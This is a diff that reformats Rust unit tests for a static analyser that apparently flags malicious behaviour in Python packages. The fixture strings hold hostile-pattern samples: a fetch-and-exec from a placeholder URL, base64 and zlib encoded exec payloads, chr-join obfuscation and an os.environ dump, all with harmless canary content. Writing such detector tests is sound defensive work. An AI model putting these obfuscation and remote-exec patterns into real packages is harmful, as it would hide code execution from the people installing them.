@@ -5,22 +5,44 @@ use assay_core::ExecutionContext;
 use assay_lang::{EventKind, FileRole, Taint, analyze_python};
 
 fn kinds(src: &str, role: FileRole) -> Vec<(EventKind, String, ExecutionContext, Taint, usize)> {
-    analyze_python(src.as_bytes(), role).events.into_iter().map(|e| (e.kind, e.api, e.context, e.taint, e.chain.len())).collect()
+    analyze_python(src.as_bytes(), role)
+        .events
+        .into_iter()
+        .map(|e| (e.kind, e.api, e.context, e.taint, e.chain.len()))
+        .collect()
 }
 
 #[test]
 fn aliases_resolve() {
-    let ev = kinds("import subprocess as sp\nfrom os import system as s\nsp.Popen(['x'])\ns('id')\n", FileRole::Module);
-    assert!(ev.iter().any(|e| e.0 == EventKind::ProcessSpawn && e.1 == "subprocess.Popen" && e.2 == ExecutionContext::ImportTime));
+    let ev = kinds(
+        "import subprocess as sp\nfrom os import system as s\nsp.Popen(['x'])\ns('id')\n",
+        FileRole::Module,
+    );
+    assert!(ev.iter().any(|e| e.0 == EventKind::ProcessSpawn
+        && e.1 == "subprocess.Popen"
+        && e.2 == ExecutionContext::ImportTime));
     assert!(ev.iter().any(|e| e.1 == "os.system"));
 }
 
 #[test]
 fn context_by_role_and_scope() {
-    let ev = kinds("import os\ndef f():\n    os.system('a')\nos.system('b')\nif __name__ == '__main__':\n    os.system('c')\n", FileRole::PackageInit);
+    let ev = kinds(
+        "import os\ndef f():\n    os.system('a')\nos.system('b')\nif __name__ == '__main__':\n    os.system('c')\n",
+        FileRole::PackageInit,
+    );
     let ctx: Vec<_> = ev.iter().map(|e| e.2).collect();
-    assert_eq!(ctx, vec![ExecutionContext::Runtime, ExecutionContext::ImportTime, ExecutionContext::Runtime]);
-    let ev = kinds("import os\ndef f():\n    os.system('a')\n", FileRole::SetupScript);
+    assert_eq!(
+        ctx,
+        vec![
+            ExecutionContext::Runtime,
+            ExecutionContext::ImportTime,
+            ExecutionContext::Runtime
+        ]
+    );
+    let ev = kinds(
+        "import os\ndef f():\n    os.system('a')\n",
+        FileRole::SetupScript,
+    );
     assert_eq!(ev[0].2, ExecutionContext::InstallTime);
 }
 
@@ -29,9 +51,17 @@ fn decode_then_exec_is_followed_into_the_payload() {
     // base64 of "import os; os.system('echo assay-canary')"
     let src = "import base64\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2VjaG8gYXNzYXktY2FuYXJ5Jyk='))\n";
     let a = analyze_python(src.as_bytes(), FileRole::SetupScript);
-    let exec = a.events.iter().find(|e| e.kind == EventKind::Exec).expect("exec");
+    let exec = a
+        .events
+        .iter()
+        .find(|e| e.kind == EventKind::Exec)
+        .expect("exec");
     assert!(exec.taint.has(Taint::DECODED));
-    let child = a.events.iter().find(|e| e.api == "os.system").expect("child event");
+    let child = a
+        .events
+        .iter()
+        .find(|e| e.api == "os.system")
+        .expect("child event");
     assert_eq!(child.chain.len(), 1, "{:?}", child.chain);
     assert_eq!(child.context, ExecutionContext::InstallTime);
 }
@@ -40,11 +70,19 @@ fn decode_then_exec_is_followed_into_the_payload() {
 fn taint_flows_through_variables() {
     let src = "import urllib.request\nd = urllib.request.urlopen('http://example.invalid/x').read()\nexec(d)\n";
     let a = analyze_python(src.as_bytes(), FileRole::Module);
-    let exec = a.events.iter().find(|e| e.kind == EventKind::Exec).expect("exec");
+    let exec = a
+        .events
+        .iter()
+        .find(|e| e.kind == EventKind::Exec)
+        .expect("exec");
     assert!(exec.taint.has(Taint::NETWORK), "{:?}", exec.taint);
     let src = "exec(open('pkg/version.py').read())\n";
     let a = analyze_python(src.as_bytes(), FileRole::SetupScript);
-    let exec = a.events.iter().find(|e| e.kind == EventKind::Exec).expect("exec");
+    let exec = a
+        .events
+        .iter()
+        .find(|e| e.kind == EventKind::Exec)
+        .expect("exec");
     assert!(exec.taint.has(Taint::FILE_READ) && !exec.taint.has(Taint::DECODED));
 }
 
@@ -52,7 +90,11 @@ fn taint_flows_through_variables() {
 fn chr_joins_and_reversal_fold() {
     let src = "import os\ncmd = ''.join([chr(c) for c in [101, 99, 104, 111]])\nr = 'lanac'[::-1]\nos.system(cmd + ' ' + r)\n";
     let a = analyze_python(src.as_bytes(), FileRole::Module);
-    let e = a.events.iter().find(|e| e.api == "os.system").expect("system");
+    let e = a
+        .events
+        .iter()
+        .find(|e| e.api == "os.system")
+        .expect("system");
     assert_eq!(e.arg.as_deref(), Some("echo canal"));
 }
 
@@ -68,7 +110,13 @@ fn dunder_import_and_getattr() {
 fn python_dash_c_payload_is_analysed() {
     let src = "import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', 'import base64; exec(base64.b64decode(\"cHJpbnQoMSk=\"))'])\n";
     let a = analyze_python(src.as_bytes(), FileRole::Startup);
-    assert!(a.events.iter().any(|e| e.kind == EventKind::Exec && e.chain.len() == 1 && e.taint.has(Taint::DECODED)), "{:?}", a.events);
+    assert!(
+        a.events.iter().any(|e| e.kind == EventKind::Exec
+            && e.chain.len() == 1
+            && e.taint.has(Taint::DECODED)),
+        "{:?}",
+        a.events
+    );
 }
 
 #[test]
@@ -88,9 +136,15 @@ fn deep_nesting_does_not_overflow() {
 
 #[test]
 fn env_harvest_but_not_env_kwarg() {
-    let ev = kinds("import os, json\njson.dumps(dict(os.environ))\n", FileRole::Module);
+    let ev = kinds(
+        "import os, json\njson.dumps(dict(os.environ))\n",
+        FileRole::Module,
+    );
     assert!(ev.iter().any(|e| e.0 == EventKind::EnvHarvest));
-    let ev = kinds("import os, subprocess\nsubprocess.run(['make'], env=os.environ)\n", FileRole::Module);
+    let ev = kinds(
+        "import os, subprocess\nsubprocess.run(['make'], env=os.environ)\n",
+        FileRole::Module,
+    );
     assert!(!ev.iter().any(|e| e.0 == EventKind::EnvHarvest));
 }
 
@@ -104,12 +158,17 @@ fn setup_command_subclasses() {
 fn zlib_base64_blob_is_decoded() {
     use std::io::Write;
     let mut e = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
-    e.write_all(b"import os\nos.system('echo assay-canary')\n").unwrap();
+    e.write_all(b"import os\nos.system('echo assay-canary')\n")
+        .unwrap();
     let z = e.finish().unwrap();
     use base64::Engine;
     let b = base64::engine::general_purpose::STANDARD.encode(z);
     let src = format!("import zlib, base64\nexec(zlib.decompress(base64.b64decode('{b}')))\n");
     let a = analyze_python(src.as_bytes(), FileRole::Module);
-    let child = a.events.iter().find(|e| e.api == "os.system").expect("child");
+    let child = a
+        .events
+        .iter()
+        .find(|e| e.api == "os.system")
+        .expect("child");
     assert_eq!(child.chain.len(), 1);
 }
